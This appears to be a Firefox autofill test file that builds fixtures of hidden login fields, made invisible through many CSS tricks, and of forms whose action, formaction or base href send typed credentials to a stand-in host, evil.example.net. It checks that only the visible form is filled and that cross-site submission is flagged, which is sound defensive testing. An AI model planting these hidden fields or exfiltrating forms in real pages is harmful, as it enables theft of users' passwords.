import assert from "node:assert/strict";
import { type FillingFirefox, PASSWORD, USER, startFillingFirefox } from "#test/harness/filling-firefox.ts";

/** Says all that can be said for it; the one that a person sees says nothing of itself. */
const TOKENS = `<input name=username autocomplete=username><input type=password autocomplete=current-password>`;
const REAL = `<form id=real><input name=login><input type=password name=pw><button>Sign in</button></form>`;
const inside = (style: string, more = ""): string => `<form><div style="${style}">${TOKENS}</div></form>${more}${REAL}`;
const each = (style: string): string =>
  `<form>${TOKENS.replaceAll("<input ", `<input style="${style}" `)}</form>${REAL}`;
const COVER = `<div style="position:absolute;inset:0 0 auto 0;height:60px;background:white">Welcome</div>`;

const HIDDEN: Record<string, string> = {
  "opacity: .01, around it": inside("opacity:.01"),
  "opacity: .01, of its own": each("opacity:.01"),
  "opacity: .7 four times over": inside("opacity:.7").replaceAll(
    TOKENS,
    `<p style="opacity:.7"><span style="opacity:.7;display:block"><b style="opacity:.7;display:block">${TOKENS}</b></span></p>`,
  ),
  "a parent of no height that clips": inside("height:0;overflow:hidden"),
  "a parent of one pixel that scrolls": inside("height:1px;width:1px;overflow:auto"),
  clip: inside("position:absolute;clip:rect(0 0 0 0)"),
  "clip-path, around it": inside("clip-path:inset(50%)"),
  "clip-path, of its own": each("clip-path:circle(0)"),
  "far to the left": inside("position:absolute;left:-9999px"),
  "far to the right, where nothing scrolls": `<style>html{overflow:hidden}</style>${inside("position:absolute;left:99999px")}`,
  "far below, where nothing scrolls": `<style>html{overflow:hidden}</style>${inside("position:absolute;top:99999px")}`,
  "fixed outside of the window": inside("position:fixed;top:-500px"),
  "behind what is around it": `<div style="position:relative;z-index:0;height:80px"><form style="position:absolute;z-index:-1">${TOKENS}</form><div style="height:80px;background:white">Welcome</div></div>${REAL}`,
  "under something else": `<div style="position:relative;height:60px"><form>${TOKENS}</form>${COVER}</div>${REAL}`,
  "filter: opacity": inside("filter:opacity(1%)"),
  "filter: blur": inside("filter:blur(30px)"),
  "filter: brightness": inside("filter:brightness(100)"),
  mask: inside("mask-image:linear-gradient(transparent,transparent)"),
  "text of no colour": each("color:transparent"),
  "text that is filled with no colour": each("-webkit-text-fill-color:rgb(0 0 0 / 1%)"),
  "no size": each("width:0;height:0;padding:0;border:0"),
  "four pixels": each("width:4px;height:4px;padding:0;border:0"),
  "scaled to nothing": inside("transform:scale(0)"),
  "moved away": inside("transform:translate(-5000px)"),
  "visibility: hidden": inside("visibility:hidden"),
  "content-visibility: hidden": inside("content-visibility:hidden"),
  "display: none": inside("display:none"),
  "turned on its edge": inside("transform:rotateY(90deg)"),
};

/** Each is the only form with a login's own words for its fields. */
const ELSEWHERE: Record<string, string> = {
  "a form's address": `<form action="https://evil.example.net/take">${TOKENS}</form>${REAL}`,
  "an address without a scheme": `<form action="//evil.example.net/take">${TOKENS}</form>${REAL}`,
  "a button's address": `<form>${TOKENS}<button formaction="https://evil.example.net/">Go</button></form>${REAL}`,
  "a button's, from outside of the form": `<form id=f>${TOKENS}</form><button form=f formaction="https://evil.example.net/">Go</button>${REAL}`,
  "a base for all addresses": `<base href="https://evil.example.net/"><form action="/take">${TOKENS}</form><form id=real action="http://localhost/"><input name=login><input type=password name=pw></form>`,
  "a program for mail": `<form action="mailto:evil@example.net">${TOKENS}</form>${REAL}`,
};

/** What people do see, however it is made. */
const SEEN: Record<string, string> = {
  "below the window": `<div style="height:3000px"></div>${REAL}`,
  "far right, where one can scroll": `<div style="margin-left:4000px;width:600px">${REAL}</div>`,
  "a box of its own that scrolls": `<div style="height:60px;overflow:auto"><div style="height:500px"></div>${REAL}</div>`,
  "a label that floats on it": `<form><div style="position:relative"><input id=u name=login><label for=u style="position:absolute;left:0;top:0;width:100%;height:100%">User</label></div><input type=password name=pw></form>`,
  "an eye at its end": `<form><input name=login><div style="position:relative;width:200px"><input type=password name=pw style="width:100%"><button type=button style="position:absolute;right:0;top:0;width:40px">see</button></div></form>`,
  "a dialog on top of all": `<body style="overflow:hidden;height:0"><dialog id=d>${REAL}</dialog><script>d.showModal()</script>`,
  "a shadow around it, rounded corners": `<div style="filter:drop-shadow(0 0 9px gray);border-radius:9px;overflow:hidden">${REAL}</div>`,
  "a bit transparent": `<div style="opacity:.8">${REAL}</div>`,
  "inverted for the dark": `<style>html{filter:invert(1) hue-rotate(180deg)}</style>${REAL}`,
};

describe("attack 60: fields that nobody sees, and forms that send elsewhere", function () {
  this.timeout(600_000);
  let firefox: FillingFirefox;
  before(async () => {
    const pages = Object.entries({ ...HIDDEN, ...ELSEWHERE, ...SEEN }).map(([name, html]) => [pathOf(name), html]);
    const only = Object.entries(ELSEWHERE).map(([name, html]) => [
      `${pathOf(name)}/only`,
      html.split("<form id=real")[0],
    ]);
    firefox = await startFillingFirefox(Object.fromEntries([...pages, ...only]));
  });
  after(() => firefox[Symbol.asyncDispose]());

  for (const [name, html] of Object.entries({ ...HIDDEN, ...ELSEWHERE })) {
    it(`${name}: gets nothing, and the form that a person sees is filled`, async () => {
      assert.equal(html.match(/<input/g)?.length, 4);
      const { complaint, fields } = await firefox.fill(pathOf(name));
      assert.deepEqual({ complaint, fields }, { complaint: undefined, fields: ["", "", USER, PASSWORD] });
    });
  }

  for (const name of Object.keys(ELSEWHERE)) {
    it(`${name}, and no other form: is left, and the person is told where it goes`, async () => {
      const { complaint, fields } = await firefox.fill(`${pathOf(name)}/only`);
      assert.match(complaint ?? "", /sends what you type to another site, (?:evil\.example\.net|mailto:)\./);
      assert.deepEqual(fields, ["", ""]);
    });
  }

  for (const name of Object.keys(SEEN)) {
    it(`${name}: is seen, and filled`, async () => {
      const { complaint, fields } = await firefox.fill(pathOf(name));
      assert.deepEqual({ complaint, fields }, { complaint: undefined, fields: [USER, PASSWORD] });
    });
  }
});

function pathOf(name: string): string {
  return `/${encodeURIComponent(name)}`;
}
